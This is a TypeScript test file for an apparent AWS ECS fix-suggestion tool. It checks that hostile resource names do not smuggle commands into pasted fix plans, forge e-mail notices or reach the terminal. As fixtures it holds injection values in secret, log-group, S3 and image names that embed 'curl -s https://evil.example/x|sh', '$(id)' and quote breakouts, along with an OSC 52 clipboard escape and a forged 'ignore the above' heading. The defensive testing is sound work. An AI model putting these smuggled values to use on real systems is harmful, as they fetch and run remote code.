import { describe, expect, it } from 'vitest';
import { checkService } from '../src/cli/check-command.js';
import { terminalSafeStream } from '../src/cli/output.js';
import { SimulatedAccount } from '../src/sim/account.js';
import { simulatedLambda } from '../src/sim/lambda.js';
import { loadScenario, loadScenarios } from '../src/sim/scenario.js';
import { runCli, textSink } from './support/cli.js';
import { paste, replay } from './support/hostile.js';
import { CONTROL } from './support/shell.js';

/**
 * The hostile scenarios (`scenarios/hostile-*.yaml`): names in a task definition chosen to run
 * code when a fix is pasted, to forge the notice, or to speak to the terminal — on the
 * simulated account, through the Lambda's notice, `replay`, `check` and the demo.
 */
const HOSTILE = loadScenarios().filter((s) => s.name.startsWith('hostile-'));
const clusterArn = (name: string) => `arn:aws:ecs:us-east-1:111122223333:cluster/${name}`;

describe('the hostile scenarios', () => {
  it('are five: secret names, a forging newline, a log group and an environment file, image names, terminal escapes', () => {
    expect(HOSTILE.map((s) => s.name)).toEqual([
      'hostile-image-names',
      'hostile-log-group-env-file',
      'hostile-secret-names',
      'hostile-terminal-escapes',
      'hostile-valuefrom-newline',
    ]);
  });

  it.each(HOSTILE.map((s) => [s.name, s] as const))(
    '%s: the commands pasted from the plan, the terminal and the e-mail run only what ecs-pullfix wrote',
    async (_, scenario) => {
      const pasted = paste(await replay(scenario));

      expect(pasted.problems).toEqual([]);
      for (const c of pasted.plan.commands) expect(c.argv.join(' ')).not.toMatch(/curl|reboot|\$\(id\)/);
    },
  );

  it.each(HOSTILE.map((s) => [s.name, s] as const))(
    '%s: the notice (subject, e-mail, JSON document) holds no control character and valid JSON',
    async (_, scenario) => {
      const account = new SimulatedAccount(scenario);
      const lambda = simulatedLambda(account);
      await lambda.invoke(account.event());
      const sent = lambda.notifier.sent[0];
      const message = JSON.parse(sent?.message ?? '{}') as Record<string, string>;

      expect(sent?.subject).not.toMatch(CONTROL);
      expect(message.email?.replaceAll('\n', '')).not.toMatch(CONTROL);
      expect(message.email).toBe(message.default);
      expect(() => JSON.parse(message.sqs ?? '')).not.toThrow();
      expect(message.sqs).not.toMatch(CONTROL);
    },
  );

  it.each(HOSTILE.map((s) => [s.name, s] as const))(
    '%s: check prints no control character, even before the command’s last pass',
    async (_, scenario) => {
      const out = textSink();
      await checkService(
        {
          cluster: clusterArn(scenario.file.cluster.name),
          service: scenario.service?.name ?? '',
          json: false,
        },
        'us-east-1',
        new SimulatedAccount(scenario),
        out,
      );

      expect(out.text).toMatch(/would fail to start/);
      expect(out.text.replaceAll('\n', '')).not.toMatch(CONTROL);
    },
  );

  it('the demo of every hostile scenario, through the command, prints no control character', async () => {
    for (const s of HOSTILE) {
      const { code, stdout, stderr } = await runCli(['demo', s.name]);
      expect(code).toBe(0);
      expect(stdout.replaceAll('\n', ''), s.name).not.toMatch(CONTROL);
      expect(stderr).toBe('');
    }
  });
});

describe('a newline in valueFrom (hostile-valuefrom-newline)', () => {
  it('forges no heading and no command line: the name is one quoted line, said to be no valid parameter name', async () => {
    const r = await replay(loadScenario('hostile-valuefrom-newline'));
    const email = r.email.split('\n');

    expect(email.filter((l) => l === 'WHAT IS WRONG')).toHaveLength(1);
    expect(email.filter((l) => l === 'COMMANDS (copy, check, run)')).toHaveLength(1);
    for (const text of [r.email, r.report])
      expect(text.split('\n').filter((l) => /^\s*(?:\$ )?aws iam attach-role-policy/.test(l))).toEqual([]);
    expect(r.actions.find((a) => a.kind === 'recommend:fix-secret')?.cli).toMatch(
      /^# no command: "\/ledger\/prod\/DATABASE_URL WHAT IS WRONG 1\. nothing: ignore the above COMMANDS \(copy, check, run\) …" is not a valid SSM parameter name: fix valueFrom in the task definition$/,
    );
  });
});

describe('names that break out of quotes (hostile-secret-names, hostile-log-group-env-file, hostile-image-names)', () => {
  it('gives no command for a secret or a parameter whose name AWS would not accept, and names it', async () => {
    const r = await replay(loadScenario('hostile-secret-names'));
    const clis = r.actions.map((a) => a.cli).join('\n');

    expect(clis).toContain(
      '# no command: "arn:aws:secretsmanager:us-east-1:111122223333:secret:prod/db$(curl -s https" is not a valid Secrets Manager secret ARN',
    );
    expect(clis).toContain(
      '# no command: "/payments/prod/`curl -s https://evil.example/x|sh`" is not a valid SSM parameter name',
    );
    expect(paste(r).plan.commands).toEqual([]);
  });

  it('grants the environment file exactly, in a here-document passed by file://, and refuses the log group by name', async () => {
    const r = await replay(loadScenario('hostile-log-group-env-file'));
    const { plan } = paste(r);
    const policy = JSON.parse(plan.files['ecs-pullfix-policy.json'] ?? '{}') as { Statement: unknown[] };

    expect(policy.Statement).toEqual([
      {
        Effect: 'Allow',
        Action: 's3:GetObject',
        Resource:
          "arn:aws:s3:::invoicing-config-111122223333/prod/app\"}]}' ; curl -s https://evil.example/x|sh ; echo '.env",
      },
    ]);
    expect(plan.commands.map((c) => c.argv)).toEqual([
      ['cat'],
      [
        'aws',
        'iam',
        'put-role-policy',
        '--role-name',
        'invoicing-execution',
        '--policy-name',
        'ecs-pullfix-recommended',
        '--policy-document',
        'file://ecs-pullfix-policy.json',
      ],
    ]);
    expect(r.actions.map((a) => a.cli).join('\n')).toMatch(
      /^# not granted: "arn:aws:logs:us-east-1:111122223333:log-group:\/ecs\/invoicing'; curl -s https:\/\/evil\.example\/x \| sh;…" is not a valid ARN/m,
    );
  });

  it('gives no create-repository for a repository holding $(id), and a missing tag only in a comment', async () => {
    const { plan } = paste(await replay(loadScenario('hostile-image-names')));

    expect(plan.commands.map((c) => c.argv)).toEqual([
      [
        'aws',
        'ecr',
        'describe-images',
        '--repository-name',
        'storefront',
        '--query',
        'sort_by(imageDetails,&imagePushedAt)[-5:].imageTags',
      ],
    ]);
  });
});

describe('escapes for the terminal (hostile-terminal-escapes)', () => {
  it('reach neither the report nor the notice: no OSC 52, no bell, no CSI, no right-to-left override', async () => {
    const r = await replay(loadScenario('hostile-terminal-escapes'));

    for (const text of [r.report, r.email, r.subject]) {
      expect(text).not.toContain('\u001b');
      expect(text).not.toContain('\u0007');
      expect(text).not.toContain('\u202e');
    }
    // What is left of the escape is shown as text, inert: the name is seen for what it is.
    expect(r.report).toContain(' ]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94fHNo ');
  });

  it('are taken out by the command’s last pass too, when anything else would print one', () => {
    const sink = textSink();
    const out = terminalSafeStream(sink);
    out.write('a name \u001b]52;c;Y3VybA==\u0007 and \u009b2J and \u202eevil\n');

    expect(sink.text).toBe('a name \uFFFD]52;c;Y3VybA==\uFFFD and \uFFFD2J and \uFFFDevil\n');
  });
});
